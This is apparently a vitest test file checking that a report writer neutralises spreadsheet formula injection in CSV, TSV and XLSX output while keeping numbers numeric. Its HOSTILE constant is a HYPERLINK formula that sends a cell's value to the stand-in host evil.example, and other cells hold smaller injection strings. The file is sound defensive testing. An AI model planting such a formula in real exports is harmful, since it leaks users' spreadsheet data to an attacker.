// Issue 30, item 9: the provider's report files write a report title someone typed; no text cell of CSV, TSV or
// XLSX may start a formula, and numbers stay numbers.
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { csvRows } from '../../testing/csv.ts';
import { memorySink } from './generate.ts';
import { writeTable, type TableCell, type TableReport } from './tables.ts';

const HOSTILE = '=HYPERLINK("https://evil.example/?leak="&B5,"Refresh")';

function report(): TableReport {
  const rows: TableCell[][] = [
    ['@SUM(A1)', 'Book', -3, 4],
    ['+Title', '-Subtitle', 5, 6],
  ];
  return {
    sheet: 'BK_T1',
    headerRows: [
      ['Report_Name', 'Book Title Usage'],
      ['Report_Title', HOSTILE],
    ],
    columns: ['Title', 'Kind', 'Views', 'Downloads'],
    totalColumns: [2, 3],
    rows: (async function* () {
      yield* rows;
    })(),
  };
}

async function written(format: 'csv' | 'tsv' | 'xlsx'): Promise<Buffer> {
  const sink = memorySink();
  await writeTable(format, report(), sink);
  return sink.buffer();
}

describe('writeTable: text cells never start a formula', () => {
  it('CSV', async () => {
    const rows = csvRows((await written('csv')).toString('utf8').replace(/^\uFEFF/, ''));
    expect(rows[1]).toEqual(['Report_Title', `'${HOSTILE}`]);
    expect(rows[4]).toEqual(["'@SUM(A1)", 'Book', '-3', '4']);
    expect(rows[5]).toEqual(["'+Title", "'-Subtitle", '5', '6']);
    expect(rows[6]).toEqual(['Total', '', '2', '10']);
  });

  it('TSV', async () => {
    const lines = (await written('tsv'))
      .toString('utf8')
      .replace(/^\uFEFF/, '')
      .split('\n');
    expect(lines[1]).toBe(`Report_Title\t'${HOSTILE}\t\t`);
    expect(lines[4]).toBe("'@SUM(A1)\tBook\t-3\t4");
    expect(lines[5]).toBe("'+Title\t'-Subtitle\t5\t6");
  });

  it('XLSX: text neutralised, numbers kept as numbers', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await written('xlsx')) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getCell('B2').value).toBe(`'${HOSTILE}`);
    expect(sheet.getCell('A5').value).toBe("'@SUM(A1)");
    expect(sheet.getCell('C5').value).toBe(-3);
    expect(sheet.getCell('B6').value).toBe("'-Subtitle");
  });
});
